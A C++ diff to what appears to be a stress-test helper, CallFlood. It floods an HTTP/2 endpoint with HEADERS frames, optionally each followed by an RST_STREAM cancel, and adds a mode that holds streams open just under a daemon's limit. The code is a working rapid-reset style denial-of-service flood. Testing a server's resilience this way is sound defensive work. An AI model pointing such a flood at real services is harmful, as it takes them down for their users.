@@ -17,6 +17,7 @@ namespace {
 constexpr int kReset = 3, kHeaders = 1, kSettings = 4, kEndHeaders = 4;
 constexpr uint32_t kCancel = 8;
 constexpr int kCallsAtOnce = 200;
+constexpr uint32_t kCallsOfAConnection = 5'000;  // fewer than the daemon lets a host leave open
 
 std::string BigEndian(uint32_t value, int bytes) {
   std::string text;
@@ -59,8 +60,8 @@ int ConnectTo(const std::string& endpoint) {
   return -1;
 }
 
-CallFlood::CallFlood(const std::string& endpoint)
-    : endpoint_(endpoint), thread_([this] { Run(); }) {}
+CallFlood::CallFlood(const std::string& endpoint, Kind kind)
+    : endpoint_(endpoint), kind_(kind), thread_([this] { Run(); }) {}
 
 CallFlood::~CallFlood() {
   stopping_ = true;
@@ -72,7 +73,7 @@ void CallFlood::Run() {
     const int fd = ConnectTo(endpoint_);
     if (fd >= 0) {
       Flood(fd);
-      if (!stopping_) ++broken_;
+      if (!stopping_) ++ended_;
       close(fd);
     } else {
       usleep(1000);
@@ -89,9 +90,11 @@ void CallFlood::Flood(int fd) {
   uint32_t stream = 1;
   while (!stopping_) {
     if (unsent.empty()) {
-      for (int i = 0; i < kCallsAtOnce; ++i, stream += 2)
-        unsent += Frame(kHeaders, kEndHeaders, stream, headers) +
-                  Frame(kReset, 0, stream, BigEndian(kCancel, 4));
+      if (kind_ == Kind::kLeave && stream > 2 * kCallsOfAConnection) return;
+      for (int i = 0; i < kCallsAtOnce; ++i, stream += 2) {
+        unsent += Frame(kHeaders, kEndHeaders, stream, headers);
+        if (kind_ == Kind::kReset) unsent += Frame(kReset, 0, stream, BigEndian(kCancel, 4));
+      }
       calls_ += kCallsAtOnce;
     }
     const ssize_t sent = send(fd, unsent.data(), unsent.size(), MSG_DONTWAIT | MSG_NOSIGNAL);
